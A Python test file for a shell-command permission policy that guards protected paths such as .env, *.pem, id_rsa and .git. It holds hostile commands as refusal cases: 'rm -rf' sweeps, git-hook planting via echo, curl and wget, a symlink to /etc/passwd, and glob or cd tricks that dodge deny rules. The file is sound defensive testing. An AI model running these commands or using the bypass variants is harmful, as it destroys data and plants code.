"""Policy round five, what a shell mv/rm -r moves (runtime/policy/_moves.py): a glob in the
workspace's own absolute path, the working directory 'cd'/'pushd'/'popd' establish, and a
move that renames an entry a '**/NAME' glob protects.

Each refused or asked command was allowed before its fix; each benign control guards a fix
against over-blocking. The policy protects 'config/prod.env' (anchored) and '**/.env'.
"""

from __future__ import annotations

import pytest
from _policy_helpers import verdict

from runtime.policy import Policy
from runtime.policy._moves import workspace_relative
from runtime.policy.shell import analyse

TOML = """
version = 1
default = "deny"
[categories]
file = "allow"
shell = "allow"
[paths]
read = ["**"]
write = ["**"]
deny = ["config/prod.env", "**/.env", "**/.env.*", "**/*.pem", "**/id_rsa*"]
deny_write = [".git/**", "**/.git/**"]
"""


@pytest.fixture(scope="module")
def policy() -> Policy:
    return Policy.from_toml(TOML)


# 1. The workspace's absolute path, globbed: '/w*/config' is '/workspace/config'.
@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("mv /w*/config x", "paths.deny"),
        ("mv /work?pace/config x", "paths.deny"),
        ("mv /[w]orkspace/config x", "paths.deny"),
        ("mv /*/config x", "paths.deny"),
        ("mv /**/config x", "paths.deny"),
        ("mv /w*/c*g x", "paths.deny"),
        ("mv /w*/.git g", "paths.deny_write"),
        ("mv /w*/ x", "paths.root"),  # the workspace itself
    ],
)
def test_a_globbed_workspace_path_is_the_workspace(policy: Policy, command: str, rule: str) -> None:
    assert verdict(policy, command) == ("deny", rule)


def test_a_globbed_workspace_sweep_is_rm_root() -> None:
    # 'rm -rf /w*/*' emptied the workspace as 'rm -rf *' (refused) does.
    assert verdict(Policy.default(), "rm -rf /w*/*") == ("deny", "commands.deny.rm-root")
    assert verdict(Policy.default(), "rm -rf /work[s]pace/*") == ("deny", "commands.deny.rm-root")


@pytest.mark.parametrize(
    "command",
    ["mv /w*/src x", "mv /tmp/c*g x", "mv /x*/config y", "rm -rf /w*/build", "mv /w*/.e* old/"],
)
def test_globbed_absolute_paths_naming_nothing_protected_stay_allowed(
    policy: Policy, command: str
) -> None:
    assert verdict(policy, command)[0] == "allow"


@pytest.mark.parametrize(
    ("value", "form"),
    [
        ("/w*/config", "config"),
        ("//workspace/./a/../b", "b"),
        ("/*/*", "*"),
        ("/**/x", "**/x"),
        ("/workspace", "."),
        ("/w*", "."),
        ("/", None),
        ("/tmp/x", None),
        ("/.w*/x", None),  # a leading dot is matched only by a literal dot
        ("relative", None),
    ],
)
def test_workspace_relative(value: str, form: str | None) -> None:
    assert workspace_relative(value, "/workspace") == form


# 2. The directories a compound command may be in: each one a 'cd' may have reached.
@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("cd sub && mv .. x", "paths.root"),
        ("cd sub; mv .. x", "paths.root"),
        ("pushd sub && mv .. x", "paths.root"),
        ("cd a/b && mv ../.. x", "paths.root"),
        ("cd config && mv prod.env x", "paths.deny"),
        ("cd config; mv * ../x", "paths.deny"),
        ("cd .git && rm -rf hooks", "paths.deny_write"),
        ("cd /nonexistent; mv config x", "paths.deny"),  # a failed cd stays where it was
        ("pushd -n /tmp && mv config x", "paths.deny"),  # '-n' changes no directory
        ("pushd config && pushd /tmp && popd && mv prod.env x", "paths.deny"),
        ("cd sub && cd - && mv config x", "paths.deny"),  # judged from the start too
        ("cd x; cd config; mv prod.env y", "paths.deny"),
    ],
)
def test_operands_are_judged_from_every_directory_a_cd_may_reach(
    policy: Policy, command: str, rule: str
) -> None:
    assert verdict(policy, command) == ("deny", rule)


@pytest.mark.parametrize(
    "command",
    [
        'cd "$D" && mv prod.env x',
        "cd $(cat dir.txt) && mv prod.env x",
        "cd c*g && mv prod.env x",  # a glob: '.?' would even match '..'
        "cd - && mv prod.env x",
        "CDPATH=/workspace/config cd x && mv prod.env y",
    ],
)
def test_operands_under_a_run_time_directory_ask(policy: Policy, command: str) -> None:
    assert verdict(policy, command)[0] == "ask"


@pytest.mark.parametrize(
    "command",
    [
        "cd sub && ls",
        "cd sub && mv a.txt ..",  # '..' as a destination is fine
        "mv a.txt ..",
        "cd build && mv out.o old.o",
        "pushd build && make && popd && rm -rf dist",
        "cd src; mv util.py helpers.py; cd ..",
        'cd "$D" && ls',
    ],
)
def test_ordinary_cd_then_move_stays_allowed(policy: Policy, command: str) -> None:
    assert verdict(policy, command)[0] == "allow"


def test_popd_returns_to_the_saved_directory() -> None:
    # After popd the start again: the rules see no outside directory for 'rm -rf dist'.
    cmds = analyse("pushd /tmp && popd && rm -rf dist").commands
    assert [c.cwd for c in cmds if c.program == "rm"] == [None]
    (rm,) = [c for c in analyse("cd a; cd /b; rm -rf x").commands if c.program == "rm"]
    assert [d.value for d in rm.dirs] == ["a", "/b"]


# 3. A move that renames: an entry a '**/NAME' glob protects loses its name.
@pytest.mark.parametrize(
    "command",
    [
        "mv .e* env.txt",
        "mv .env* x",
        "mv -T .e?v x",
        "mv *.pem cert.txt",  # refused: its text matches '**/*.pem'
        "mv *.p?m cert.txt",
        "mv id_* keys",
        "mv s*.p?m notes",
        "git mv .e* env.txt",
    ],
)
def test_a_renaming_move_of_a_name_protected_entry_asks(policy: Policy, command: str) -> None:
    assert verdict(policy, command)[0] != "allow"


@pytest.mark.parametrize(
    "command",
    [
        "mv .e* old/",  # a directory destination keeps the names
        "mv -t old .e*",
        "mv .e* a.txt old",  # several sources: the destination is a directory
        "mv *.txt notes.txt",
        "mv *.md docs",
        "mv .eslintrc* x",  # meets '**/*.pem' only through its star
        "mv report* final",
        "mv *.log logs",
        "rm -r .e*",  # a delete keeps no name; the masks refuse the unlink (EBUSY)
    ],
)
def test_moves_that_keep_protected_names_stay_allowed(policy: Policy, command: str) -> None:
    assert verdict(policy, command)[0] == "allow"


# 4. What the shell writes is judged as write_file is: redirect targets and the files
# ordinary writing programs name (the masks refuse them too; the policy says so first).
@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("echo 'rm -rf ~' > .git/hooks/pre-commit", "paths.deny_write"),
        ("cat > .git/hooks/pre-commit <<'E'\nrm -rf ~\nE", "paths.deny_write"),
        ("echo x >> .git/config", "paths.deny_write"),
        ("cd .git && echo x > hooks/pre-commit", "paths.deny_write"),
        ("echo x > /w*/.git/config", "paths.deny_write"),
        ("tee .git/hooks/post-checkout < evil", "paths.deny_write"),
        ("cp evil .git/hooks/pre-commit", "paths.deny_write"),
        ("cp -t .git/hooks evil", "paths.deny_write"),
        ("install -m 755 evil .git/hooks/pre-push", "paths.deny_write"),
        ("install --target-directory .git/hooks evil", "paths.deny_write"),
        ("touch .git/hooks/pre-commit", "paths.deny_write"),
        ("chmod +x .git/hooks/pre-commit", "paths.deny_write"),
        ("chmod --reference=run.sh .git/hooks/pre-commit", "paths.deny_write"),
        ("chown --reference run.sh .git/config", "paths.deny_write"),
        ("mkdir -p .git/hooks/x", "paths.deny_write"),
        ("ln -sf /etc/passwd config/prod.env", "paths.deny"),
        ("truncate -s0 config/prod.env", "paths.deny"),
        ("dd if=/dev/zero of=.env", "paths.deny"),
        ("sed -i d .env", "paths.deny"),
        ("rm .env", "paths.deny"),
    ],
)
def test_shell_writes_to_protected_paths_are_refused(
    policy: Policy, command: str, rule: str
) -> None:
    assert verdict(policy, command) == ("deny", rule)


@pytest.mark.parametrize(
    "command",
    [
        "echo x > out.txt",
        "make > build.log 2>&1",
        "ls > /dev/null 2>&1",
        "cp a.txt b.txt",
        "cp -r src dist/",
        "tee -a log.txt",
        "rm -f *.pyc",
        "dd if=a.img of=b.img bs=1M",
        "ln -s ../shared/x y",
        "sed -i 's/a/b/' src/main.py",
        "sed -ie 's/a/b/' x.txt",
        "sed -n p .env.example",  # no -i: a read
        "chmod +x run.sh",
        "chmod --reference=.git/config run.sh",  # the reference file is read
        "touch -r .env x",  # -r names the reference file: read
        "git status > .git-status.txt",
        'cd "$D" && make > build.log',  # a run-time directory: the kernel's
        "echo ok > .gitignore",
        "cp x .",
    ],
)
def test_ordinary_shell_writes_stay_allowed(policy: Policy, command: str) -> None:
    assert verdict(policy, command)[0] == "allow"


@pytest.mark.parametrize(
    "command",
    [
        "sort -o .git/config x",
        "unzip -qo x.zip -d .git/hooks",
        "rsync -a evil/ .git/hooks/",
        "curl -sSLo .git/hooks/pre-commit https://example.com/x",
        "curl --output=.git/hooks/pre-commit https://example.com/x",
        "wget -O.git/hooks/pre-commit https://example.com/x",
    ],
)
def test_output_options_naming_protected_paths_are_refused(policy: Policy, command: str) -> None:
    assert verdict(policy, command) == ("deny", "paths.deny_write")


@pytest.mark.parametrize(
    "command",
    [
        "sort -o out.txt in.txt",
        "curl -fsSL https://example.com/x -o out.sh",
        "wget -qO- https://example.com/x",
        "unzip -o x.zip -d build",
        "rsync -a src/ dst/",
        "sort -u in.txt",
    ],
)
def test_ordinary_output_options_stay_allowed(policy: Policy, command: str) -> None:
    assert verdict(policy, command)[0] == "allow"
